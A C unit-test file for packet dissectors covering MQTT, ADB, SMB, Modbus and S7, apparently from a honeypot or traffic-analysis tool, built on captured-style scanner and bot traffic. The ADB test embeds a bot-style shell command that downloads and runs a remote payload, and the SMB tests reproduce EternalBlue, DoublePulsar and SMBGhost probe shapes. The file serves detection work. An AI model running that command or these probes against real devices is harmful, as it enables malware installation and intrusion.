/* IoT, ICS and file-sharing dissectors: mqtt, adb, smb, modbus, s7.  Byte
 * strings follow the specifications (MQTT 3.1.1/5.0, ADB protocol.txt,
 * MS-SMB/MS-SMB2, Modbus Application Protocol v1.1b3, S7comm as decoded by
 * Wireshark) and the probes of nmap's NSE scripts and known bots. */
#include "proto_t.h"

static void test_mqtt(void)
{
	static const char v311[] =
	    "\x10\x1d\x00\x04MQTT\x04\xc2\x00\x3c\x00\x05mqttx\x00\x04user\x00\x04pass"
	    "\x82\x06\x00\x01\x00\x01#\x00"
	    "\x30\x0a\x00\x03"
	    "a/bhello"
	    "\xc0\x00\xe0\x00";
	static const char v5[] = "\x10\x1b\x00\x04MQTT\x05\x06\x00\x0a\x05\x11\x00\x00\x0e\x10"
				 "\x00\x03"
				 "cid"
				 "\x00"
				 "\x00\x01t"
				 "\x00\x00" /* will: props, topic, message */
				 "\x82\x08\x00\x02\x00\x00\x03$SY\x00";
	static const char v31[] = "\x10\x25\x00\x06MQIsdp\x03\x02\x00\x3c\x00\x17mosqpub/";

	mk(v311, sizeof(v311) - 1, "\x20\x02\x00\x05", 4, 6);
	CHECK_STR(run(), "mqtt");
	CHECK(has("\"protocol\":\"MQTT\""));
	CHECK(has("\"level\":4"));
	CHECK(has("\"client_id\":\"mqttx\""));
	CHECK(has("\"keepalive\":60"));
	CHECK(has("\"clean_session\":true"));
	CHECK(has("\"username\":\"user\""));
	CHECK(has("\"password_set\":true"));
	CHECK(
	    has("\"packets\":[\"connect\",\"subscribe\",\"publish\",\"pingreq\",\"disconnect\"]"));
	CHECK(has("\"subscribe\":[\"#\"]"));
	CHECK(has("\"publish\":[\"a/b\"]"));
	CHECK_INT(rec.ncreds, 1);
	CHECK(cred(0, "mqtt", "user", "pass"));

	/* 5.0 with properties and a will. */
	mk(v5, sizeof(v5) - 1, NULL, 0, 6);
	CHECK_STR(run(), "mqtt");
	CHECK(has("\"level\":5"));
	CHECK(has("\"client_id\":\"cid\""));
	CHECK(has("\"will_topic\":\"t\""));
	CHECK(has("\"keepalive\":10"));
	CHECK(has("\"subscribe\":[\"$SY\"]"));
	CHECK_INT(rec.ncreds, 0);

	/* 3.1 "MQIsdp", cut in the middle of the client id. */
	mk(v31, sizeof(v31) - 1, NULL, 0, 6);
	CHECK_STR(run(), "mqtt");
	CHECK(has("\"packets\":[\"connect\"]"));
	CHECK(!strstr(ex(), "client_id"));
	mk("\x10\x0c\x00\x04MQTX\x04\x02\x00\x3c\x00\x00", 14, NULL, 0, 6);
	CHECK(strcmp(run(), "mqtt"));
	torture(&proto_mqtt, (const uint8_t *)v311, sizeof(v311) - 1);
	torture(&proto_mqtt, (const uint8_t *)v5, sizeof(v5) - 1);
}

/* ADB message: header + data. */
static size_t adb_msg(uint8_t *o, const char cmd[4], uint32_t a0, uint32_t a1, const char *d,
		      size_t dn)
{
	uint32_t w[6], sum = 0;

	for (size_t k = 0; k < dn; k++)
		sum += (uint8_t)d[k];
	memcpy(&w[0], cmd, 4);
	w[1] = a0;
	w[2] = a1;
	w[3] = (uint32_t)dn;
	w[4] = sum;
	w[5] = w[0] ^ 0xffffffffu;
	memcpy(o, w, 24); /* little-endian host, as the wire */
	memcpy(o + 24, d, dn);
	return 24 + dn;
}

static void test_adb(void)
{
	static const char ident[] = "host::features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir";
	static const char shell[] = "shell:cd /data/local/tmp/; busybox wget http://198.51.100.7/w"
				    " -O w; sh w";
	uint8_t b[512];
	size_t n;

	n = adb_msg(b, "CNXN", 0x01000001, 256 * 1024, ident, sizeof(ident));
	n += adb_msg(b + n, "OPEN", 1, 0, shell, sizeof(shell));
	n += adb_msg(b + n, "WRTE", 1, 2, "echo hi\n", 8);
	mk(b, n, NULL, 0, 6);
	CHECK_STR(run(), "adb");
	CHECK(has("\"commands\":[\"CNXN\",\"OPEN\",\"WRTE\"]"));
	CHECK(has("\"version\":\"0x01000001\""));
	CHECK(has("\"maxdata\":262144"));
	CHECK(has("\"identity\":\"host::features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir\""));
	CHECK(has("\"open\":[\"shell:cd /data/local/tmp/; busybox wget http://198.51.100.7/w -O "
		  "w; sh w\"]"));
	CHECK(has("\"write\":[\"echo hi\\u000a\"]"));
	/* Bad magic is not ADB. */
	b[20] ^= 1;
	mk(b, n, NULL, 0, 6);
	CHECK(strcmp(run(), "adb"));
	b[20] ^= 1;
	torture(&proto_adb, b, n);
}

/* NetBIOS session message around m[0..n). */
static size_t nb(uint8_t *o, const uint8_t *m, size_t n)
{
	o[0] = 0;
	o[1] = (uint8_t)(n >> 16);
	o[2] = (uint8_t)(n >> 8);
	o[3] = (uint8_t)n;
	memcpy(o + 4, m, n);
	return n + 4;
}

static void test_smb(void)
{
	/* SMB1 NEGOTIATE as nmap's smb-protocols / EternalBlue scanners send it. */
	static const char dial[] = "\x02PC NETWORK PROGRAM 1.0\0\x02LANMAN1.0\0"
				   "\x02Windows for Workgroups 3.1a\0\x02LM1.2X002\0\x02LANMAN2.1\0"
				   "\x02NT LM 0.12\0";
	uint8_t m[512], b[1024];
	size_t mn, n;

	memset(m, 0, 32);
	memcpy(m, "\xffSMB\x72", 5);
	m[9] = 0x18;
	m[10] = 0x01;
	m[11] = 0x28;
	mn = 32;
	m[mn++] = 0; /* WordCount */
	m[mn++] = (uint8_t)(sizeof(dial) - 1);
	m[mn++] = 0;
	memcpy(m + mn, dial, sizeof(dial) - 1);
	mn += sizeof(dial) - 1;
	n = nb(b, m, mn);
	/* then a Trans2 SESSION_SETUP (0x000e), the DoublePulsar ping */
	memset(m, 0, 80);
	memcpy(m, "\xffSMB\x32", 5);
	m[32] = 15;
	m[33 + 28] = 0x0e;
	n += nb(b + n, m, 33 + 30 + 2);
	mk(b, n, NULL, 0, 6);
	CHECK_STR(run(), "smb");
	CHECK(has("\"version\":1"));
	CHECK(has("\"commands\":[\"negotiate\",\"trans2\"]"));
	CHECK(has("\"dialects\":[\"PC NETWORK PROGRAM 1.0\",\"LANMAN1.0\",\"Windows for "
		  "Workgroups 3.1a\",\"LM1.2X002\",\"LANMAN2.1\",\"NT LM 0.12\"]"));
	CHECK(has("\"trans2_subcommands\":[14]"));
	torture(&proto_smb, b, n);

	/* SMB2 NEGOTIATE with 3.1.1 and two contexts (preauth, compression). */
	memset(m, 0, sizeof(m));
	memcpy(m, "\xfeSMB\x40", 5);
	mn = 64;
	m[mn] = 36;
	m[mn + 2] = 5; /* dialect count */
	m[mn + 4] = 1;
	memcpy(m + mn + 36, "\x02\x02\x10\x02\x00\x03\x02\x03\x11\x03", 10);
	/* contexts at 64 + 36 + 10 = 110, aligned to 112 */
	m[mn + 28] = 112;
	m[mn + 32] = 2;
	memcpy(m + 112, "\x01\x00\x26\x00\x00\x00\x00\x00", 8);
	m[120] = 1, m[122] = 32, m[124] = 1;
	memcpy(m + 112 + 8 + 38 + 2,
	       "\x03\x00\x0a\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00"
	       "\x01\x00\x00\x00",
	       18);
	mn = 112 + 8 + 38 + 2 + 18;
	n = nb(b, m, mn);
	mk(b, n, NULL, 0, 6);
	CHECK_STR(run(), "smb");
	CHECK(has("\"version\":2"));
	CHECK(has("\"commands\":[\"negotiate\"]"));
	CHECK(has("\"dialects\":[\"0x0202\",\"0x0210\",\"0x0300\",\"0x0302\",\"0x0311\"]"));
	CHECK(has("\"negotiate_contexts\":2"));
	CHECK(has("\"context_types\":[1,3]"));
	torture(&proto_smb, b, n);

	/* SMBGhost's shape: a compression transform with a huge offset. */
	n = nb(b,
	       (const uint8_t *)"\xfcSMB\x00\x10\x00\x00\x01\x00\x00\x00\xff\xff\xff\xff"
				"xxxxxxxx",
	       24);
	mk(b, n, NULL, 0, 6);
	CHECK_STR(run(), "smb");
	CHECK(has("\"compression\":{\"original_size\":4096,\"algorithm\":1,\"flags\":0,"
		  "\"offset\":4294967295}"));

	/* Port 139: NetBIOS session request first. */
	static const char req[] = "\x81\x00\x00\x44\x20"
				  "EOEBENEDEBFEEFFCFDCACACACACACACA\x00\x20"
				  "CACACACACACACACACACACACACACACAAA\x00";
	memcpy(b, req, sizeof(req) - 1);
	mk(b, sizeof(req) - 1, NULL, 0, 6);
	CHECK_STR(run(), "smb");
	CHECK(has("\"netbios_called\":\"NAMCATERS\""));
	mk("\x00\x00\x00\x10\xefSMB", 8, NULL, 0, 6);
	CHECK(strcmp(run(), "smb"));
}

static void test_modbus(void)
{
	/* nmap modbus-discover: Report Server ID then Read Device Id, two units. */
	static const char cli[] = "\x00\x00\x00\x00\x00\x02\x01\x11"
				  "\x00\x01\x00\x00\x00\x05\x00\x2b\x0e\x01\x00"
				  "\x00\x02\x00\x00\x00\x06\x01\x03\x00\x00\x00\x0a";
	static const char srv[] = "\x00\x01\x00\x00\x00\x1f\x00\x2b\x0e\x01\x01\x00\x00\x03"
				  "\x00\x07Siemens\x01\x06S7-300\x02\x04V3.3";
	mk(cli, sizeof(cli) - 1, srv, sizeof(srv) - 1, 6);
	CHECK_STR(run(), "modbus");
	CHECK(has("\"frames\":3"));
	CHECK(has("\"unit_ids\":[1,0]"));
	CHECK(has("\"function_codes\":[17,43,3]"));
	CHECK(has("\"functions\":[\"report_server_id\",\"encapsulated_interface\","
		  "\"read_holding_registers\"]"));
	CHECK(has("\"read_device_id\":{\"code\":1,\"object_id\":0}"));
	CHECK(has("\"device_info\":{\"vendor\":\"Siemens\",\"product_code\":\"S7-300\","
		  "\"revision\":\"V3.3\"}"));

	/* One write. */
	mk("\x12\x34\x00\x00\x00\x06\xff\x06\x00\x01\x00\x03", 12, NULL, 0, 6);
	CHECK_STR(run(), "modbus");
	CHECK(has("\"functions\":[\"write_single_register\"]"));
	/* Frames that do not tile the payload, or a bad function: not Modbus. */
	mk("\x12\x34\x00\x00\x00\x06\xff\x06\x00\x01\x00\x03\x00", 13, NULL, 0, 6);
	CHECK(strcmp(run(), "modbus"));
	mk("\x12\x34\x00\x00\x00\x02\xff\x63", 8, NULL, 0, 6);
	CHECK(strcmp(run(), "modbus"));
	torture(&proto_modbus, (const uint8_t *)cli, sizeof(cli) - 1);
	torture(&proto_modbus, (const uint8_t *)srv, sizeof(srv) - 1);
}

static void test_s7(void)
{
	/* nmap s7-info: COTP CR, setup communication, read SZL 0x0011. */
	static const char cli[] =
	    "\x03\x00\x00\x16\x11\xe0\x00\x00\x00\x01\x00\xc0\x01\x0a\xc1\x02\x01\x00\xc2\x02"
	    "\x01\x02"
	    "\x03\x00\x00\x19\x02\xf0\x80\x32\x01\x00\x00\x00\x00\x00\x08\x00\x00\xf0\x00\x00"
	    "\x01\x00\x01\x01\xe0"
	    "\x03\x00\x00\x21\x02\xf0\x80\x32\x07\x00\x00\x00\x00\x00\x08\x00\x08\x00\x01\x12"
	    "\x04\x11\x44\x01\x00\xff\x09\x00\x04\x00\x11\x00\x01";
	uint8_t rdp[] = "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00"
			"\x00";

	mk(cli, sizeof(cli) - 1, NULL, 0, 6);
	CHECK_STR(run(), "s7");
	CHECK(has("\"src_tsap\":\"0x0100\""));
	CHECK(has("\"dst_tsap\":\"0x0102\""));
	CHECK(has("\"tpdu_size\":1024"));
	CHECK(has("\"functions\":[\"setup_communication\",\"read_szl\"]"));
	CHECK(has("\"pdu_length\":480"));
	CHECK(has("\"szl\":[{\"id\":\"0x0011\",\"index\":\"0x0001\"}]"));
	/* The CR alone is S7 (TSAPs); an RDP request is not. */
	mk(cli, 22, NULL, 0, 6);
	CHECK_STR(run(), "s7");
	mk(rdp, sizeof(rdp) - 1, NULL, 0, 6);
	CHECK_STR(run(), "rdp");
	/* S7comm-plus. */
	mk("\x03\x00\x00\x0b\x02\xf0\x80\x72\x01\x00\x00", 11, NULL, 0, 6);
	CHECK_STR(run(), "s7");
	CHECK(has("\"s7commplus\":true"));
	torture(&proto_s7, (const uint8_t *)cli, sizeof(cli) - 1);
}

static void test_empty(void)
{
	const struct proto_dissector *ds[] = {&proto_mqtt, &proto_adb, &proto_smb, &proto_modbus,
					      &proto_s7};

	for (size_t k = 0; k < sizeof(ds) / sizeof(ds[0]); k++) {
		mk(NULL, 0, NULL, 0, 6);
		CHECK_INT(ds[k]->detect(&rec), 0);
		ds[k]->dissect(&rec);
		CHECK(rec.extra.len > 0 && rec.ncreds == 0);
	}
}

int main(void)
{
	record_init(&rec);
	test_mqtt();
	test_adb();
	test_smb();
	test_modbus();
	test_s7();
	test_empty();
	record_free(&rec);
	return T_DONE();
}
